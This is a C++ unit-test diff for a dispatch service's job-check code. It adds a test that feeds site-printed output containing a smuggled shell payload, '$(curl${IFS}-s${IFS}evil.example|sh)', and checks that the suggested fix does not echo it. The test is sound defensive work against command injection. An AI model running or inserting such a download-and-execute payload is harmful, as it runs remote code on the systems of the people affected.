@@ -3,6 +3,7 @@
 #include <gtest/gtest.h>
 
 #include "services/dispatch/domain/facility_check.h"
+#include "shared/base/text.h"
 
 namespace atl::dispatch {
 namespace {
@@ -30,6 +31,10 @@ TEST(CheckJobTest, RanksThatDoNotReachOneAnotherAreToldTheVariableThatMendsIt) {
     EXPECT_NE(rows[0].mend.find("atoll facility set leonardo --env OMPI_MCA_btl_tcp_if_include=ib0,"),
               std::string::npos)
         << rows[0].mend;
+    // A site can print what the trainer does: none of its words is for a shell to run.
+    const auto printed_by_a_site = judge_check_job(
+        {}, 1, replace_all(said, "include=ib0", "include=$(curl${IFS}-s${IFS}evil.example|sh)"), facility());
+    EXPECT_NE(printed_by_a_site[0].mend.find("--env NAME=INTERFACE,"), std::string::npos) << printed_by_a_site[0].mend;
 }
 
 TEST(SiteRowsTest, AWorkDirectoryThatIsSomebodyElsesIsToBeGivenAway) {
